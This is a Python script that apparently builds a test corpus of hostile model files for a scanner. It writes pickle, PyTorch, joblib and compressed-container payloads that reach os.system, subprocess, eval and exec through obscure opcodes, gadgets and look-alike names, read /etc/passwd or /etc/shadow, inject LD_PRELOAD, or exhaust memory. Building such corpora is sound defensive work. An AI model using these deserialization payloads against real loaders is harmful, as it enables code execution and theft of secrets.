"""Writes a second set of hostile and malformed model files: opcode spellings, compositions of harmless names, containers that two
readers read in two ways, growth. Nothing here is loaded; the only command in them is `id`.

Usage: make_hostile_wild.py DIR
Makes DIR/malicious/wild-*/ and DIR/malformed/wild-*/. Needs the standard library only.
"""

import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import pickle
import struct
import sys
import tarfile
import warnings
import zipfile
import zlib

from make_hostile import (BODY, EVIL, HARMLESS, Out, call, frame, glob, headers, npy, patched, short, stack_global, tarred, text,
                          torch_zip, wrapper, zipped)

P2 = b"\x80\x02"
P4 = b"\x80\x04"
PRINT = "id"


def long8(value):
    data = value.encode()
    return b"\x8d" + struct.pack("<Q", len(data)) + data


def binstring(value):
    data = value.encode()
    return b"T" + struct.pack("<i", len(data)) + data


def shortbin(value):
    data = value.encode()
    return b"U" + bytes([len(data)]) + data


def raw(data):
    return b"B" + struct.pack("<I", len(data)) + data


SPELLINGS = {
    "unicode": lambda s: b"V" + "".join(f"\\u{ord(c):04x}" for c in s).encode() + b"\n", "string": lambda s: b"S'" + s.encode() + b"'\n",
    "string-hex": lambda s: b'S"' + "".join(f"\\x{ord(c):02x}" for c in s).encode() + b'"\n',
    "string-octal": lambda s: b"S'" + "".join(f"\\{ord(c):03o}" for c in s).encode() + b"'\n",
    "unicode-long": lambda s: b"V" + "".join(f"\\U{ord(c):08x}" for c in s).encode() + b"\n",
    "binunicode": text, "short": short, "long8": long8, "binstring": binstring, "shortbin": shortbin}


def spelled(out):
    group = "wild-spelled"
    for name, spell in SPELLINGS.items():
        out.evil(group, f"stack-global-{name}.pkl", P4 + spell("os") + spell("system") + b"\x93" + spell("id") + b"\x85R.")
        out.evil(group, f"memoized-{name}.pkl", P4 + spell("system") + b"\x94" + spell("os") + b"\x94" + b"0" + b"0" + b"h\x01h\x00\x93" + text("id") + b"\x85R.")
    for module, name in (("posix", "system"), ("subprocess", "run"), ("builtins", "exec")):
        out.evil(group, f"inst-{module}.pkl", b"(" + text("id") + b"i" + module.encode() + b"\n" + name.encode() + b"\n.")
        out.evil(group, f"obj-{module}.pkl", P2 + b"(" + glob(module, name) + text("id") + b"o.")
        out.evil(group, f"newobj-{module}.pkl", P2 + glob(module, name) + text("id") + b"\x85\x81.")
        out.evil(group, f"newobj-ex-{module}.pkl", P4 + stack_global(module, name) + b")}" + text("args") + text("id") + b"s\x92.")
        out.evil(group, f"tuple-mark-{module}.pkl", P2 + glob(module, name) + b"(" + text("id") + b"tR.")
        out.evil(group, f"args-by-memo-{module}.pkl", P2 + text("id") + b"\x85q\x000" + glob(module, name) + b"h\x00R.")
        out.evil(group, f"dup-{module}.pkl", P2 + glob(module, name) + b"20" + text("id") + b"\x85R.")
        out.evil(group, f"only-import-{module}.pkl", P2 + glob(module, name) + b".")
        out.evil(group, f"import-dropped-{module}.pkl", P2 + glob(module, name) + b"0N.")
    for name, data in (("py2-builtin", call("__builtin__", "eval", proto=2)), ("py2-commands", call("commands", "getstatusoutput", proto=1)),
                       ("py2-os-getcwdu", call("os", "popen2", proto=0)), ("py2-exceptions", call("__builtin__", "execfile", proto=0)),
                       ("py2-urllib", call("urllib", "urlopen", proto=2)), ("py2-dbm", call("anydbm", "open", proto=2)),
                       ("cr-in-name", P2 + b"cos\r\nsystem\r\n" + text("id") + b"\x85R."), ("space-in-name", P2 + b"c os\nsystem \n" + text("id") + b"\x85R."),
                       ("empty-module", call("", "system", proto=4)), ("empty-name", call("os", "", proto=4)), ("nul-in-name", call("os\0x", "system", proto=4)),
                       ("fullwidth", call("ｏｓ", "ｓｙｓｔｅｍ", proto=4)), ("cyrillic", call("оs", "system", proto=2)), ("surrogate", P4 + b"V\\ud800os\nVsystem\n\x93" + text("id") + b"\x85R."),
                       ("trailing-dot", call("collections", "OrderedDict.", proto=4)), ("leading-dot", call("collections", ".OrderedDict", proto=4)),
                       ("double-dot", call("numpy..core", "multiarray", proto=4)), ("case", call("Collections", "ordereddict", proto=4)),
                       ("name-like-allowed", call("collections.OrderedDict", "fromkeys", proto=4)), ("locals", call("collections", "OrderedDict.<locals>.x", proto=4)),
                       ("long-name", call("os." * 5000 + "os", "system", proto=2)), ("proto-switch", b"\x80\x02\x80\x04\x80\x00" + glob("__builtin__", "eval") + text("1") + b"\x85R."),
                       ("ext2", P2 + b"\x83\x07\x00)R."), ("ext4", P2 + b"\x84\x07\x00\x00\x00)R."), ("ext-name-as-arg", P2 + glob("copyreg", "add_extension") + text("os") + text("system") + b"K\x07\x87R0\x82\x07" + text("id") + b"\x85R.")):
        out.evil(group, name + ".pkl", data)


DOTTED = [
    ("numpy", "os.system"), ("collections", "_sys.modules"), ("collections", "OrderedDict.__init__.__globals__"), ("collections", "OrderedDict.__subclasses__"),
    ("collections", "OrderedDict.__class__.mro"), ("numpy", "ndarray.tofile"), ("numpy", "ndarray.dump"), ("numpy.core.multiarray", "_reconstruct.__self__"),
    ("pathlib", "Path.write_text"), ("pathlib", "PosixPath.unlink"), ("pathlib", "PosixPath.open"), ("datetime", "sys.modules"), ("sklearn.pipeline", "Pipeline.fit"),
    ("joblib.numpy_pickle", "NumpyArrayWrapper.read"), ("builtins", "bytes.fromhex"), ("builtins", "str.format"), ("builtins", "object.__subclasses__"),
    ("builtins", "type.__call__"), ("torch", "Tensor.__reduce_ex__"), ("torch._utils", "sys.modules.get"), ("torch._utils", "torch.load"),
    ("torch.nn.modules.linear", "Linear.load_state_dict"), ("copyreg", "dispatch_table.update"), ("functools", "partial.__call__"), ("numpy", "dtype.__class__"),
    ("xgboost.core", "Booster.load_model"), ("xgboost.core", "os.system"), ("lightgbm.basic", "Booster.save_model"), ("pandas.core.frame", "DataFrame.to_pickle"),
    ("pandas.core.frame", "DataFrame.eval"), ("scipy.sparse._csr", "csr_matrix.__init__"), ("uuid", "os.system"), ("decimal", "Decimal.__class__"), ("enum", "sys.modules"),
    ("collections", "Counter.update"), ("random", "_os.system"), ("random", "Random.seed"), ("collections.abc", "sys.modules"), ("logging", "os.system"), ("re", "enum.sys.modules")]


def dotted(out):
    for i, (module, name) in enumerate(DOTTED):
        out.evil("wild-dotted", f"{i:02d}-{module}.{name}.pkl", call(module, name, proto=4))


COMPOSED = {
    "zlib-bomb": P4 + stack_global("_codecs", "decode") + raw(zlib.compress(b"\0" * 2_000_000)) + text("zlib") + b"\x86R.",
    "codec-other": P2 + glob("_codecs", "encode") + text("id") + text("rot13") + b"\x86R.",
    "codec-computed": P2 + glob("_codecs", "encode") + glob("_codecs", "encode") + text("x") + text("latin1") + b"\x86R" + text("latin1") + b"\x86R.",
    "bytearray-size": P2 + glob("builtins", "bytearray") + b"\x8a\x06\0\0\0\0\0\x40\x85R.",
    "bytes-size": P4 + stack_global("builtins", "bytes") + b"\x8a\x06\0\0\0\0\0\x40\x85R.",
    "list-of-range": P4 + stack_global("builtins", "list") + stack_global("builtins", "range") + b"\x8a\x08" + b"\xff" * 7 + b"\x3f\x85R\x85R.",
    "set-of-range": P4 + stack_global("builtins", "set") + stack_global("builtins", "range") + b"\x8a\x08" + b"\xff" * 7 + b"\x3f\x85R\x85R.",
    "deque-of-repeat": P4 + stack_global("collections", "deque") + stack_global("itertools", "repeat") + b"K\x00\x85R\x85R.",
    "counter-of-range": P4 + stack_global("collections", "Counter") + stack_global("builtins", "range") + b"\x8a\x08" + b"\xff" * 7 + b"\x3f\x85R\x85R.",
    "numpy-zeros": P4 + stack_global("numpy", "ndarray") + b"\x8a\x06\0\0\0\0\0\x40\x85\x85R.",
    "reconstruct-huge": P2 + glob("numpy.core.multiarray", "_reconstruct") + glob("numpy", "ndarray") + b"\x8a\x06\0\0\0\0\0\x40\x85" + shortbin("b") + b"\x87R.",
    "reconstruct-memmap": P2 + glob("numpy", "memmap") + text("/tmp/x") + text("u1") + text("w+") + b"\x87\x81.",
    "reconstruct-other-class": P2 + glob("numpy.core.multiarray", "_reconstruct") + glob("acme", "Array") + b"K\x00\x85" + shortbin("b") + b"\x87R.",
    "memmap-reduce": P2 + glob("numpy", "memmap") + b"(" + text("/tmp/x") + text("u1") + text("w+") + b"K\x00K\x0a\x85tR.",
    "mareconstruct-huge": P2 + glob("numpy.ma.core", "_mareconstruct") + b"(" + glob("numpy.ma.core", "MaskedArray") + glob("numpy", "ndarray") + b"\x8a\x06\0\0\0\0\0\x40\x85" + text("b") + b"tR.",
    "dtype-state-offset": P2 + glob("numpy", "dtype") + text("V8") + b"K\x00K\x01\x87R(K\x03" + text("|") + b"N" + text("a") + b"\x85}" + text("a") + glob("numpy", "dtype") + text("O8") + b"K\x00K\x01\x87RM\xe8\x03\x86sK\x08K\x01K\x10tb.",
    "object-array-from-bytes": P2 + glob("numpy.core.multiarray", "_reconstruct") + glob("numpy", "ndarray") + b"K\x00\x85" + shortbin("b") + b"\x87R(K\x01K\x01\x85" + glob("numpy", "dtype") + text("O8") + b"K\x00K\x01\x87R\x89U\x08AAAAAAAAtb.",
    "ndarray-lying-shape": P2 + glob("numpy.core.multiarray", "_reconstruct") + glob("numpy", "ndarray") + b"K\x00\x85" + shortbin("b") + b"\x87R(K\x01\x8a\x06\0\0\0\0\0\x40\x85" + glob("numpy", "dtype") + text("f8") + b"K\x00K\x01\x87R\x89U\x08AAAAAAAAtb.",
    "scalar-object-evil": P2 + glob("numpy.core.multiarray", "scalar") + glob("numpy", "dtype") + text("O8") + b"K\x00K\x01\x87R" + glob("os", "system") + text("id") + b"\x85R\x86R.",
    "generator-ctor": P2 + glob("numpy.random._pickle", "__generator_ctor") + text("id") + glob("os", "popen") + b"\x86R.",
    "generator-ctor-allowed": P2 + glob("numpy.random._pickle", "__generator_ctor") + text("/tmp/x") + glob("pathlib", "PosixPath") + b"\x86R.",
    "bitgen-class": P2 + glob("numpy.random._pickle", "__bit_generator_ctor") + glob("sklearn.linear_model._base", "LinearRegression") + b"\x85R.",
    "reconstructor-init": P2 + glob("copyreg", "_reconstructor") + glob("sklearn.pipeline", "Pipeline") + glob("sklearn.pipeline", "Pipeline") + text("x") + b"\x87R.",
    "newobj-function": P2 + glob("copyreg", "__newobj__") + glob("subprocess", "Popen") + text("id") + b"\x86R.",
    "newobj-ex-function": P2 + glob("copyreg", "__newobj_ex__") + glob("subprocess", "Popen") + text("id") + b"\x85}\x87R.",
    "rebuild-from-type": P2 + glob("torch._tensor", "_rebuild_from_type_v2") + b"(" + glob("os", "system") + glob("torch", "Tensor") + text("id") + b"\x85}tR.",
    "rebuild-from-type-allowed": P2 + glob("torch._tensor", "_rebuild_from_type_v2") + b"(" + glob("torch.storage", "_load_from_bytes") + glob("torch", "Tensor") + raw(EVIL) + b"\x85}tR.",
    "rebuild-wrapper": P2 + glob("torch._utils", "_rebuild_wrapper_subclass") + b"(" + glob("acme", "Tensor") + glob("torch", "float32") + b"))K\x00" + glob("torch", "strided") + glob("torch", "device") + text("cpu") + b"\x85R\x89tR.",
    "parameter-state": P2 + glob("torch._utils", "_rebuild_parameter_with_state") + b"(N\x89)}" + text("grad_fn") + glob("os", "system") + b"stR.",
    "tensor-no-storage": P2 + glob("torch._utils", "_rebuild_tensor_v2") + b"(" + glob("acme", "Storage") + b")RK\x00K\x01\x85K\x01\x85\x89" + glob("collections", "OrderedDict") + b")RtR.",
    "load-from-bytes-zip": P2 + glob("torch.storage", "_load_from_bytes") + raw(torch_zip(EVIL)) + b"\x85R.",
    "load-from-bytes-memo": P2 + raw(EVIL) + b"q\x000" + glob("torch.storage", "_load_from_bytes") + b"h\x00\x85R.",
    "load-from-bytes-encoded": P2 + glob("torch.storage", "_load_from_bytes") + glob("_codecs", "encode") + text(EVIL.decode("latin1")) + text("latin1") + b"\x86R\x85R.",
    "load-from-bytes-computed": P2 + glob("torch.storage", "_load_from_bytes") + glob("builtins", "bytes") + text("x") + text("latin1") + b"\x86R\x85R.",
    "load-from-bytes-legacy-keys": P2 + glob("torch.storage", "_load_from_bytes") + raw(b"\x80\x02\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19.\x80\x02M\xe9\x03.\x80\x02}." + HARMLESS + EVIL) + b"\x85R.",
    "load-from-bytearray": b"\x80\x05" + stack_global("torch.storage", "_load_from_bytes") + b"\x96" + struct.pack("<Q", len(EVIL)) + EVIL + b"\x85R.",
    "fx-graph": P2 + glob("torch.fx.graph_module", "reduce_graph_module") + b"}" + text("_code") + text("import os\ndef forward(self): os.system('id')") + b"s" + text("import torch") + b"\x86R.",
    "fx-package": P2 + glob("torch.fx.graph_module", "_deserialize_graph_module") + text("x") + b"}\x86R.",
    "jit-script": P2 + glob("torch.jit._script", "ScriptFunction") + text("x") + b"\x85R.",
    "rv-frozen-template": P2 + glob("scipy.stats._distn_infrastructure", "rv_continuous_frozen") + b")\x81}" + text("dist") + glob("scipy.stats._continuous_distns", "uniform_gen") + b")\x81}" + text("_parse_arg_template") + text("import os\nos.system('id')") + b"sbsb.",
    "rv-discrete-template": P2 + glob("scipy.stats._discrete_distns", "randint_gen") + b")\x81}" + text("_parse_arg_template") + text("import os\nos.system('id')") + b"sb.",
    "rv-generic": P2 + glob("scipy.stats._distn_infrastructure", "rv_continuous") + b")\x81}" + text("_parse_arg_template") + text("print(1)") + b"sb.",
    "tzfile": P2 + glob("dateutil.tz.tz", "tzfile") + text("/etc/passwd") + b"\x85R.",
    "pytz": P2 + glob("pytz", "_p") + text("../../../etc/passwd") + b"\x85R.",
    "zoneinfo-path": P2 + glob("zoneinfo", "ZoneInfo") + text("../../etc/passwd") + b"\x85R.",
    "pandas-unpickle-block": P2 + glob("pandas._libs.internals", "_unpickle_block") + glob("os", "system") + b"NN\x87R.",
    "pandas-new-index": P2 + glob("pandas.core.indexes.base", "_new_Index") + glob("acme", "Index") + b"}\x86R.",
    "pandas-offset": P2 + glob("pandas._libs.tslibs.offsets", "_get_offset") + text("x") + b"\x85R.",
    "namedtuple": P4 + stack_global("collections", "namedtuple") + text("A") + text("x y") + b"\x86R.",
    "type-call": P4 + stack_global("builtins", "type") + text("A") + b")}\x87R.",
    "map-eval": P4 + stack_global("builtins", "map") + stack_global("builtins", "eval") + b"]" + text("1") + b"a\x86R.",
    "filter-list": P4 + stack_global("builtins", "list") + stack_global("builtins", "map") + stack_global("os", "system") + b"]" + text("id") + b"a\x86R\x85R.",
    "next-iter": P4 + stack_global("builtins", "next") + stack_global("builtins", "iter") + stack_global("os", "system") + b"N\x86R\x85R.",
    "getattr-allowed": P4 + stack_global("builtins", "getattr") + stack_global("numpy", "ndarray") + text("tofile") + b"\x86R.",
    "setattr": P4 + stack_global("builtins", "setattr") + stack_global("collections", "OrderedDict") + text("x") + b"K\x01\x87R.",
    "vars-globals": P4 + stack_global("builtins", "globals") + b")R.", "super": P4 + stack_global("builtins", "super") + stack_global("collections", "OrderedDict") + b"\x85R.",
    "property": P4 + stack_global("builtins", "property") + stack_global("os", "system") + b"\x85R.", "help": P4 + stack_global("builtins", "help") + b")R.",
    "input": P4 + stack_global("builtins", "input") + b")R.", "methodtype": P4 + stack_global("types", "MethodType") + stack_global("os", "system") + text("id") + b"\x86R)R.",
    "simple-namespace": P4 + stack_global("types", "SimpleNamespace") + b")R}" + text("__setstate__") + stack_global("os", "system") + b"sb" + text("id") + b"b.",
    "reduce": P4 + stack_global("functools", "reduce") + stack_global("os", "system") + b"]\x86R.", "lru-cache": P4 + stack_global("functools", "lru_cache") + stack_global("os", "system") + b"\x85R" + text("id") + b"\x85R.",
    "singledispatch": P4 + stack_global("functools", "singledispatch") + stack_global("os", "system") + b"\x85R.",
    "operator-call": P4 + stack_global("operator", "call") + stack_global("os", "system") + text("id") + b"\x86R.",
    "itemgetter": P4 + stack_global("operator", "itemgetter") + text("system") + b"\x85R" + stack_global("os", "__dict__") + b"\x85R" + text("id") + b"\x85R.",
    "weakref-finalize": P4 + stack_global("weakref", "finalize") + stack_global("collections", "OrderedDict") + b")R" + stack_global("os", "system") + text("id") + b"\x87R.",
    "thread-timer": P4 + stack_global("threading", "Timer") + b"K\x00" + stack_global("os", "system") + text("id") + b"\x85\x87R.",
    "executor": P4 + stack_global("concurrent.futures", "ThreadPoolExecutor") + b")R.", "contextlib": P4 + stack_global("contextlib", "ExitStack") + b")R.",
    "string-template": P4 + stack_global("string", "Formatter") + b")R.", "xml": P4 + stack_global("xml.etree.ElementTree", "parse") + text("/etc/passwd") + b"\x85R.",
    "csv": P4 + stack_global("csv", "reader") + text("x") + b"\x85R.", "gzip-open": P4 + stack_global("gzip", "open") + text("/tmp/x") + b"\x85R.",
    "logging-config": P4 + stack_global("logging.config", "fileConfig") + text("/tmp/x") + b"\x85R.", "logging-dict": P4 + stack_global("logging.config", "dictConfig") + b"}\x85R.",
    "yaml": P4 + stack_global("yaml", "unsafe_load") + text("!!python/object/apply:os.system [id]") + b"\x85R.", "jinja": P4 + stack_global("jinja2", "Template") + text("{{x}}") + b"\x85R.",
    "numexpr": P4 + stack_global("numexpr", "evaluate") + text("1") + b"\x85R.", "sympy": P4 + stack_global("sympy.core.sympify", "sympify") + text("1") + b"\x85R.",
    "numpy-bmat": P4 + stack_global("numpy", "bmat") + text("x") + b"\x85R.", "numpy-ctypeslib": P4 + stack_global("numpy.ctypeslib", "load_library") + text("x") + text("/tmp") + b"\x86R.",
    "numpy-fromfile": P4 + stack_global("numpy", "fromfile") + text("/etc/passwd") + b"\x85R.", "numpy-datasource": P4 + stack_global("numpy", "DataSource") + b")R.",
    "numpy-vectorize": P4 + stack_global("numpy", "vectorize") + stack_global("os", "system") + b"\x85R.", "numpy-frompyfunc": P4 + stack_global("numpy", "frompyfunc") + stack_global("os", "system") + b"K\x01K\x01\x87R.",
    "numpy-apply": P4 + stack_global("numpy", "apply_along_axis") + stack_global("os", "system") + b"K\x00]\x87R.", "joblib-memory": P4 + stack_global("joblib.memory", "Memory") + text("/tmp/x") + b"\x85R.",
    "joblib-batched": P4 + stack_global("joblib.parallel", "BatchedCalls") + b"](" + stack_global("os", "system") + text("id") + b"\x85}tN\x86R)R.".replace(b"](", b"]("),
    "joblib-delayed": P4 + stack_global("joblib.parallel", "delayed") + stack_global("os", "system") + b"\x85R.", "joblib-wrapped": P4 + stack_global("joblib._store_backends", "FileSystemStoreBackend") + b")R.",
    "ndarray-wrapper-path": P2 + glob("joblib.numpy_pickle_compat", "NDArrayWrapper") + b")\x81}(" + text("filename") + text("/etc/shadow.npy") + text("subclass") + glob("numpy", "ndarray") + text("allow_mmap") + b"\x88ub.",
    "ndarray-wrapper-up": P2 + glob("joblib.numpy_pickle_compat", "NDArrayWrapper") + b")\x81}(" + text("filename") + text("../../other.npy") + text("subclass") + glob("numpy", "ndarray") + text("allow_mmap") + b"\x88ub.",
    "zndarray-path": P2 + glob("joblib.numpy_pickle_compat", "ZNDArrayWrapper") + b")\x81}(" + text("filename") + text("/etc/shadow.z") + text("init_args") + b"()" + text("state") + b")ub.".replace(b"()", b")"),
    "cloudpickle-subimport": P4 + stack_global("cloudpickle.cloudpickle", "subimport") + text("os") + b"\x85R.", "cloudpickle-skel": P4 + stack_global("cloudpickle.cloudpickle", "_make_skeleton_class") + b"(" + stack_global("builtins", "type") + text("A") + b")}NNtR.",
    "dill-import": P4 + stack_global("dill._dill", "_import_module") + text("os.system") + b"\x85R" + text("id") + b"\x85R.", "dill-type": P4 + stack_global("dill._dill", "_create_type") + stack_global("builtins", "type") + text("A") + b")}\x86R.".replace(b"\x86R", b"\x87R"),
    "dill-getattr": P4 + stack_global("dill._dill", "_get_attr") + stack_global("dill._dill", "_import_module") + text("os") + b"\x85R" + text("system") + b"\x86R" + text("id") + b"\x85R.",
    "dill-load-type": P4 + stack_global("dill._dill", "_load_type") + text("CodeType") + b"\x85R.", "dill-eval-repr": P4 + stack_global("dill._dill", "_eval_repr") + text("1") + b"\x85R.",
    "keras-deserialize": P4 + stack_global("keras.saving.pickle_utils", "deserialize_model_from_bytecode") + raw(b"PK\x03\x04") + b"\x85R.", "keras-lambda": P4 + stack_global("keras.utils.generic_utils", "func_load") + text("x") + b"\x85R.",
    "tf-load": P4 + stack_global("tensorflow.python.framework.load_library", "load_op_library") + text("/tmp/x.so") + b"\x85R.", "spacy": P4 + stack_global("spacy.util", "load_model") + text("/tmp/x") + b"\x85R.",
    "nltk": P4 + stack_global("nltk.data", "load") + text("http://x/y.pickle") + b"\x85R.", "gensim": P4 + stack_global("gensim.utils", "unpickle") + text("/tmp/x") + b"\x85R.",
    "mlflow": P4 + stack_global("mlflow.pyfunc", "load_model") + text("x") + b"\x85R.", "hf-hub": P4 + stack_global("huggingface_hub", "hf_hub_download") + text("x") + text("y") + b"\x86R.",
    "transformers-pipeline": P4 + stack_global("transformers.pipelines", "pipeline") + text("x") + b"\x85R.", "transformers-dynamic": P4 + stack_global("transformers.dynamic_module_utils", "get_class_from_dynamic_module") + text("x.Y") + text("z") + b"\x86R.",
    "ultralytics": P4 + stack_global("ultralytics.utils.checks", "check_requirements") + text("x") + b"\x85R.", "datasets": P4 + stack_global("datasets.load", "load_dataset") + text("x") + b"\x85R.",
    "xgb-spark": P4 + stack_global("xgboost.core", "Booster") + text("/etc/passwd") + b"\x85R." .replace(b"\x85R", b"\x85R"), "lgb-file": P4 + stack_global("lightgbm.basic", "Booster") + b"NN" + text("/etc/passwd") + b"\x87R.",
    "catboost-file": P4 + stack_global("catboost.core", "CatBoost.load_model") + text("/tmp/x") + b"\x85R.", "sklearn-download": P4 + stack_global("sklearn.datasets._base", "_fetch_remote") + text("x") + b"\x85R.",
    "sklearn-testing": P4 + stack_global("sklearn.utils._testing", "assert_run_python_script_without_output") + text("print(1)") + b"\x85R.", "sklearn-load-files": P4 + stack_global("sklearn.datasets", "load_svmlight_file") + text("/etc/passwd") + b"\x85R.",
    "memoryview-cast": P4 + stack_global("builtins", "memoryview") + raw(b"x") + b"\x85R.", "array-reconstructor": P4 + stack_global("array", "_array_reconstructor") + b"(" + stack_global("array", "array") + text("d") + b"K\x0d" + raw(b"x" * 8) + b"tR.",
    "mmap": P4 + stack_global("mmap", "mmap") + b"K\x00K\x0a\x86R.", "ctypes-string": P4 + stack_global("ctypes", "string_at") + b"K\x00\x85R.", "ctypes-cast": P4 + stack_global("_ctypes", "PyObj_FromPtr") + b"K\x01\x85R.",
    "int-huge-string": P2 + glob("builtins", "int") + text("9" * 200_000) + b"\x85R.", "pow": P4 + stack_global("builtins", "pow") + b"K\x0aK\x0a\x86R.", "operator-mul": P4 + stack_global("operator", "mul") + text("A") + b"\x8a\x06\0\0\0\0\0\x40\x86R.",
    "str-format-walk": P4 + stack_global("builtins", "format") + text("x") + text("y") + b"\x86R.", "sorted-key": P4 + stack_global("builtins", "sorted") + b"]\x85R.", "enum-call": P4 + stack_global("enum", "Enum") + text("A") + text("x") + b"\x86R.",
    "re-call": P4 + stack_global("re", "sub") + text("x") + stack_global("os", "system") + text("x") + b"\x87R.",
    "object-setstate-slots": P2 + glob("collections", "OrderedDict") + b"N}" + text("__init__") + glob("builtins", "print") + b"s\x86b0" + glob("collections", "OrderedDict") + text("id") + b"\x85R.",
    "slots-defaults": P2 + glob("numpy.random._pickle", "__generator_ctor") + b"N}" + text("__defaults__") + glob("pathlib", "PosixPath") + b"\x85s\x86b.",
    "slots-code": P2 + glob("torch._utils", "_rebuild_tensor_v2") + b"N}" + text("__code__") + b"Ns\x86b.", "slots-class": P2 + glob("collections", "OrderedDict") + b")RN}" + text("__class__") + glob("collections", "Counter") + b"s\x86b.",
    "append-to-global": P2 + glob("torch.nn.modules.linear", "Linear") + text("x") + b"a.", "setitem-global": P2 + glob("collections", "OrderedDict") + text("x") + text("y") + b"s.",
    "additems-global": P4 + stack_global("collections", "OrderedDict") + b"(" + text("x") + b"\x90.", "setitem-ndarray": P2 + glob("os", "environ") + text("LD_PRELOAD") + text("/tmp/x.so") + b"s.",
    "sys-modules": P2 + glob("sys", "modules") + text("os") + text("x") + b"s.", "sys-path": P2 + glob("sys", "path") + text("/tmp") + b"a.", "build-global-dict": P2 + glob("numpy", "ndarray") + b"}" + text("x") + b"K\x01sb.",
    "estimator-planted-reduce": P2 + glob("sklearn.linear_model._base", "LinearRegression") + b")\x81}" + text("predict") + glob("builtins", "eval") + b"sb.",
    "module-hook-dict": P2 + glob("torch.nn.modules.container", "Sequential") + b")\x81}" + text("forward") + glob("os", "system") + b"sb.",
    "scorer": P2 + glob("sklearn.metrics._scorer", "_PredictScorer") + b")\x81}" + text("_score_func") + glob("os", "system") + b"sb.", "tokenizer-func": P2 + glob("sklearn.feature_extraction.text", "CountVectorizer") + b")\x81}" + text("tokenizer") + glob("subprocess", "getoutput") + b"sb.",
    "pyfunc-metric": P2 + glob("sklearn.metrics._dist_metrics", "newObj") + glob("acme", "Distance") + b"\x85R.", "kd-tree": P2 + glob("sklearn.neighbors._kd_tree", "newObj") + glob("os", "system") + b"\x85R.",
    "callable-is-string": P2 + text("os.system") + text("id") + b"\x85R.", "callable-is-tuple": P2 + b")" + text("id") + b"\x85R.", "args-not-tuple": P2 + glob("os", "system") + text("id") + b"R.",
    "buffers": b"\x80\x05\x97\x98.", "persid-text": b"Pos.system('id')\n.", "binpersid-global": P2 + glob("os", "system") + b"Q.", "persid-tuple-evil": P2 + b"(" + text("storage") + glob("os", "system") + text("0") + text("cpu") + b"K\x01tQ.",
}


def composed(out):
    for name, data in COMPOSED.items():
        out.evil("wild-composed", name + ".pkl", data)


def loaders(out):
    group = "wild-loaders"
    system = P2 + b"(" + text("storage") + glob("os", "system") + text("0") + text("cpu") + b"K\x01tQ."
    out.evil(group, "persistent-type.pt", torch_zip(system))
    for name in ("data.pkl", "constants.pkl", "extra.pkl", "tensors.pkl", "DATA.PKL", "data/0", "attributes.pkl", ".data/serialization_id"):
        out.evil(group, f"member-{name.replace('/', '_')}.pt", zipped([("m/data.pkl", HARMLESS), ("m/version", b"3\n"), ("m/byteorder", b"little")] if name != "data.pkl" else [("m/version", b"3\n")])
                 [:0] + zipped(([("m/data.pkl", HARMLESS)] if name != "data.pkl" else []) + [("m/version", b"3\n"), ("m/" + name, EVIL)]))
    out.evil(group, "two-roots.pt", zipped([("a/data.pkl", HARMLESS), ("a/version", b"3\n"), ("b/data.pkl", EVIL), ("b/version", b"3\n")]))
    for method, name in ((zipfile.ZIP_BZIP2, "bzip2"), (zipfile.ZIP_LZMA, "lzma"), (zipfile.ZIP_DEFLATED, "deflate")):
        out.evil(group, f"method-{name}.zip", zipped([("model.pkl", EVIL)], method))
        out.evil(group, f"method-{name}.npz", zipped([("a.npy", npy("'|O'", EVIL))], method))
    for name, source in (("from-file", "torch.from_file('/etc/passwd', False, 10)"), ("save", "torch.save(1, '/tmp/x')"), ("ops-load", "ops.aten.load('/tmp/x')"),
                         ("custom-op", "ops.acme.shell('id')"), ("classes", "__torch__.torch.classes.acme.Shell.run('id')"), ("import", "__import__('os').system('id')"),
                         ("ops-from-file", "ops.aten.from_file('/etc/passwd', None, 10)")):
        code = f"class M(Module):\n  __parameters__ = []\n  __buffers__ = []\n  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n    _0 = {source}\n    return x\n".encode()
        out.evil(group, f"script-{name}.pt", torch_zip(b"\x80\x02c__torch__\nM\n)\x81}X\x08\x00\x00\x00training\x89sb.", [("archive/constants.pkl", b"\x80\x02)."), ("archive/code/__torch__.py", code)]))
    for name, member in (("sys_info", 0), ("pickle", 1), ("storages", 2), ("tensors", 3)):
        names = ["sys_info", "pickle", "storages", "tensors"]
        bodies = [b"\x80\x02}.", HARMLESS, b"\x80\x02K\x00.", b"\x80\x02K\x00."]
        bodies[member] = EVIL
        out.evil(group, f"legacy-tar-{name}.pt", tarred([(n, b, tarfile.REGTYPE, "") for n, b in zip(names, bodies)]))
    out.evil(group, "package-source.pt", zipped([("p/.data/version", b"6\n"), ("p/.data/extern_modules", b""), ("p/model/model.pkl", P2 + glob("code", "Model") + b")\x81."),
                                                 ("p/code/__init__.py", b"import subprocess\nsubprocess.run(['id'])\nclass Model: pass\n")]))
    head = P2
    evil = b"0" + BODY + b"."
    out.evil(group, "joblib-raw-as-opcodes.pkl", head + wrapper(struct.pack("<BI", ord("J"), len(evil)) + b"\x85", body=evil) + b".")
    again = head + wrapper()[:0] + glob("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81q\x01" + wrapper().split(b")\x81", 1)[1]
    out.evil(group, "joblib-wrapper-built-again.joblib", again + b"0h\x01}b" + b"\x00\x00\x00\x00" + b"0" + BODY + b".")
    out.evil(group, "joblib-shape-changed.joblib", again + b"0h\x01}" + text("shape") + b"K\x08\x85sb" + b"\x00\x00\x00\x00" + b"0" + BODY[:3] + BODY + b".")
    out.evil(group, "joblib-dotted-wrapper.joblib", P4 + stack_global("joblib.numpy_pickle", "NumpyArrayWrapper.__class__") + b")R" + BODY + b".")
    for codec, packed in (("gz", gzip.compress), ("bz2", bz2.compress), ("xz", lzma.compress), ("zlib", zlib.compress)):
        out.evil(group, f"joblib-objects.{codec}.joblib", packed(head + wrapper(code="O8", body=EVIL) + b"."))
        out.evil(group, f"torch-in.{codec}.pt", packed(torch_zip(EVIL)))
        out.evil(group, f"npz-in.{codec}.npz", packed(zipped([("a.npy", npy("'|O'", EVIL))])))
    lz4 = lambda data: b"\x04\x22\x4d\x18\x60\x40\x82" + struct.pack("<I", len(data) | 0x80000000) + data + b"\0\0\0\0"
    zstd = lambda data: b"\x28\xb5\x2f\xfd\x20" + bytes([len(data)]) + struct.pack("<I", len(data) << 3 | 1)[:3] + data
    skip = b"\x50\x2a\x4d\x18" + struct.pack("<I", 5) + b"hello"
    small = EVIL
    out.evil(group, "stored.lz4", lz4(small))
    out.evil(group, "stored.joblib", lz4(small))
    out.evil(group, "skippable.lz4", skip + lz4(small))
